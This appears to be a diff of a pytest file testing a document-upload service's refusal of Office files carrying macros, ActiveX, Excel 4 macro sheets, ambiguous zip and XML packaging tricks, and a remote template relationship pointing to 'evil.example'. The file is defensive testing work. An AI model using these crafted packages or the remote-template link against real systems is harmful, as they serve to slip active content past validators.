@@ -2,53 +2,19 @@
 
 from __future__ import annotations
 
+import contextlib
 import io
 import re
 import zipfile
+from collections.abc import Callable
 from typing import Any
 
 import pytest
 from sqlalchemy import select
-from support import NOTHING_LEFT, create_document, docx, what_is_left
+from support import MAIN_PARTS, NOTHING_LEFT, create_document, docx, office, what_is_left
 
 from auditdocs.extensions import db
 from auditdocs.models import Document
-
-CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
-OFFICE_DOCUMENT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
-MAIN = {  # extension -> (main part, its content type)
-    "docx": ("word/document.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"),
-    "docm": ("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
-    "xlsx": ("xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
-    "xlsm": ("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
-    "pptx": ("ppt/presentation.xml",
-             "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"),
-    "pptm": ("ppt/presentation.xml", "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"),
-}
-VBA = "application/vnd.ms-office.vbaProject"
-
-
-def office(kind: str, *, vba: bool = False, main_at: str | None = None, doctype: bool = False) -> bytes:
-    """An OOXML package as Office writes one: content types, package relationships, the main part (and VBA)."""
-    part, content_type = MAIN[kind]
-    part = main_at or part
-    overrides = f'<Override PartName="/{part}" ContentType="{content_type}"/>'
-    if vba:
-        overrides += f'<Override PartName="/{part.split("/")[0]}/vbaProject.bin" ContentType="{VBA}"/>'
-    dtd = '<!DOCTYPE Types [<!ENTITY a "aaaaaaaaaa">]>' if doctype else ""
-    buf = io.BytesIO()
-    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
-        zf.writestr("[Content_Types].xml", f'<?xml version="1.0"?>{dtd}<Types xmlns="{CT_NS}">'
-                    '<Default Extension="xml" ContentType="application/xml"/>'
-                    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
-                    f"{overrides}</Types>")
-        zf.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
-                    f'package/2006/relationships"><Relationship Id="rId1" Type="{OFFICE_DOCUMENT}" '
-                    f'Target="/{part}"/></Relationships>')
-        zf.writestr(part, "<document/>")
-        if vba:
-            zf.writestr(f"{part.split('/')[0]}/vbaProject.bin", b"\xd0\xcf\x11\xe0 VBA project")
-    return buf.getvalue()
 
 
 def odf(mimetype: str, *, basic: bool = False) -> bytes:
@@ -72,7 +38,7 @@ def word_with_macros_as_docx() -> bytes:
         for info in source.infolist():
             data = source.read(info)
             if info.filename == "[Content_Types].xml":
-                data = data.replace(MAIN["docx"][1].encode(), MAIN["docm"][1].encode())
+                data = data.replace(MAIN_PARTS["docx"][1].encode(), MAIN_PARTS["docm"][1].encode())
             zf.writestr(info, data)
         zf.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0 VBA project")
     return buf.getvalue()
@@ -113,7 +79,8 @@ def test_macros_smuggled_into_a_macro_free_type_are_refused(app, client, officer
     resp = create_document(client, officer.id, code="PR-MAC-003", content=office("docx", vba=True),
                            filename="Acta.docx")
     assert resp.status_code == 400
-    assert "contains macros, which a .docx file must not carry" in _message(resp)
+    assert "contains macros or other active content" in _message(resp) and "a .docx file must not carry" in \
+        _message(resp)
     assert what_is_left(app) == NOTHING_LEFT
 
 
@@ -138,7 +105,7 @@ def test_odf_with_another_mimetype_or_with_macros_is_refused(app, client, office
     assert resp.status_code == 400 and "is not a valid ODT file" in _message(resp)
     macros = odf("application/vnd.oasis.opendocument.text", basic=True)
     resp = create_document(client, officer.id, code="PR-ODF-002", content=macros, filename="Acta.odt")
-    assert resp.status_code == 400 and "contains macros, which a .odt file must not carry" in _message(resp)
+    assert resp.status_code == 400 and "contains macros or other active content" in _message(resp)
     assert what_is_left(app) == NOTHING_LEFT
 
 
@@ -167,3 +134,86 @@ def test_macro_enabled_formats_are_refused_unless_an_admin_allows_them(app, clie
     resp = create_document(client, officer.id, code="PR-DOCM-003", content=office("docm", vba=True),
                            filename="Macro.docx")
     assert resp.status_code == 400 and "macro-enabled document (.docm)" in _message(resp)
+
+
+def _package(members: list[tuple[str, bytes]]) -> bytes:
+    """A zip written member by member, duplicates and odd cases included (as a hostile tool would)."""
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as zf:
+        for name, data in members:
+            zf.writestr(name, data)
+    return buf.getvalue()
+
+
+def _members(package: bytes) -> list[tuple[str, bytes]]:
+    zf = zipfile.ZipFile(io.BytesIO(package))
+    return [(n, zf.read(n)) for n in zf.namelist()]
+
+
+DOCM_TYPE = MAIN_PARTS["docm"][1]
+OFFICE_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
+
+
+def _ambiguous_packages() -> dict[str, Callable[[], bytes]]:
+    """Packages that read one way to a careless checker and another way to Word (built on demand)."""
+    clean = _members(office("docx"))
+    types = dict(clean)["[Content_Types].xml"].decode()
+    evil_rels = (f'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+                 f'relationships"><Relationship Id="rId1" Type="{OFFICE_REL}" Target="/word/evil.xml"/>'
+                 "</Relationships>").encode()
+    evil_types = types.replace("</Types>", f'<Override PartName="/word/evil.xml" ContentType="{DOCM_TYPE}"/>'
+                               "</Types>").encode()
+    return {
+        "upper-case package relationships": lambda: _package(
+            [(n, d) for n, d in clean if n not in ("_rels/.rels", "[Content_Types].xml")]
+            + [("[Content_Types].xml", evil_types), ("_RELS/.RELS", evil_rels), ("word/evil.xml", b"<doc/>")]),
+        "no package relationships": lambda: _package([(n, d) for n, d in clean if n != "_rels/.rels"]),
+        "two office documents": lambda: office("docx", extra_rels=f'<Relationship Id="rId9" Type="{OFFICE_REL}" '
+                                                          'Target="/word/other.xml"/>',
+                                       extra={"word/other.xml": b"<doc/>"}),
+        "an Override twice": lambda: office("docx", extra_types=f'<Override PartName="/WORD/DOCUMENT.XML" '
+                                                        f'ContentType="{DOCM_TYPE}"/>'),
+        "a member twice": lambda: _package([*clean, ("word/document.xml", b"<other/>")]),
+        "UTF-16 with a DTD": lambda: _package(
+            [(n, d) for n, d in clean if n != "[Content_Types].xml"]
+            + [("[Content_Types].xml", ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE Types [<!ENTITY a "b">]>'
+                                        + types.split("?>", 1)[1]).encode("utf-16"))]),
+    }
+
+
+AMBIGUOUS = ["upper-case package relationships", "no package relationships", "two office documents",
+             "an Override twice", "a member twice", "UTF-16 with a DTD"]
+
+
+@pytest.mark.parametrize("case", AMBIGUOUS)
+def test_an_ambiguous_package_is_refused(app, client, officer, case):
+    packages = _ambiguous_packages()
+    assert sorted(packages) == sorted(AMBIGUOUS)
+    with pytest.warns(UserWarning) if case == "a member twice" else contextlib.nullcontext():  # "Duplicate name"
+        content = packages[case]()
+    resp = create_document(client, officer.id, code="PR-AMB-001", content=content, filename="Acta.docx")
+    assert resp.status_code == 400, case
+    assert what_is_left(app) == NOTHING_LEFT
+
+
+@pytest.mark.parametrize(("case", "extra", "extra_types", "extra_rels"), [
+    ("a VBA part under another name, its type with a parameter", {"word/data.bin": b"\xd0\xcf"},
+     '<Override PartName="/word/data.bin" ContentType="application/vnd.ms-office.vbaProject; v=1"/>', ""),
+    ("an ActiveX control", {"word/activeX/activeX1.xml": b"<ax/>"},
+     '<Override PartName="/word/activeX/activeX1.xml" ContentType="application/vnd.ms-office.activeX+xml"/>', ""),
+    ("an Excel 4 macro sheet", {"xl/macrosheets/sheet1.xml": b"<m/>"}, "", ""),
+    ("a template fetched from the internet",
+     {"word/_rels/settings.xml.rels": (
+         b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+         b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
+         b'relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
+         b"</Relationships>")}, "", ""),
+])
+def test_active_content_in_a_macro_free_file_is_refused(app, client, officer, case, extra, extra_types, extra_rels):
+    content = office("xlsx" if "Excel" in case else "docx", extra=extra, extra_types=extra_types,
+                     extra_rels=extra_rels)
+    resp = create_document(client, officer.id, code="PR-ACT-001", content=content,
+                           filename="Libro.xlsx" if "Excel" in case else "Acta.docx")
+    assert resp.status_code == 400, case
+    assert "contains macros or other active content" in _message(resp)
+    assert what_is_left(app) == NOTHING_LEFT
